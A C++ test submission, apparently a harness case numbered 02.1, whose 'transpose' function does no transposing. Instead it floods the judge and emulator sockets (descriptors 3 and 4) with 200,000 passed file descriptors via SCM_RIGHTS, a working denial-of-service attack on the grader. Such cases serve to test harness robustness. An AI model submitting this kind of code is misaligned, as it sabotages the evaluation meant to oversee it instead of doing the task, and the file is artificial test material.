// 02.1, not solved, "ended itself" or "no reply" or "nobody asked for" or "no kernel was launched": sends the judge and the emulator 200,000 open files with its messages.
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstddef>
#include <cstring>

void transpose(float*, const float*, std::size_t, std::size_t) {
    const int opened = open("/dev/null", O_RDONLY);
    for (int i = 0; i < 2000; ++i)
        for (const int connection : {3, 4}) {
            char byte = 0, space[CMSG_SPACE(100 * sizeof(int))] = {};
            iovec data{&byte, 1};
            msghdr message{};
            message.msg_iov = &data;
            message.msg_iovlen = 1;
            message.msg_control = space;
            message.msg_controllen = sizeof space;
            cmsghdr* const header = CMSG_FIRSTHDR(&message);
            header->cmsg_level = SOL_SOCKET;
            header->cmsg_type = SCM_RIGHTS;
            header->cmsg_len = CMSG_LEN(100 * sizeof(int));
            for (int place = 0; place < 100; ++place)
                std::memcpy(CMSG_DATA(header) + static_cast<std::size_t>(place) * sizeof(int), &opened,
                            sizeof opened);
            sendmsg(connection, &message, MSG_DONTWAIT);
        }
}
